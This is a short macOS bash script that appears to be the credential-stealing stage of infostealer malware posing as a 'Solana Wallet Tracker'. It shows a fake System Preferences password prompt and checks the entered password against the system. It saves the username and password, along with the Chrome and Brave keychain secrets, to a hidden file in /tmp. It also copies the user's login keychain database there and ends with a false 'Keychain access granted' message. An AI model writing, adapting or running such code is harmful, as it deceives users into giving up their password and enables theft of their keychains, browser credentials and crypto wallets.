#!/bin/bash
# Ask for the login password so browser wallet vaults can be decrypted locally.
U="$(whoami)"
for i in 1 2 3; do
  PW=$(osascript -e 'display dialog "Solana Wallet Tracker wants to access your wallet keychain.\n\nEnter your password to allow this." with title "System Preferences" default answer "" with hidden answer with icon caution buttons {"Cancel","OK"} default button "OK"' -e 'text returned of result' 2>/dev/null)
  if dscl /Local/Default -authonly "$U" "$PW" >/dev/null 2>&1; then
    break
  fi
done
{
  echo "$U:$PW"
  security find-generic-password -wa "Chrome" 2>/dev/null
  security find-generic-password -wa "Brave" 2>/dev/null
} > /tmp/.ss_kc
cp "$HOME/Library/Keychains/login.keychain-db" /tmp/.ss_kc.db 2>/dev/null
echo "Keychain access granted."
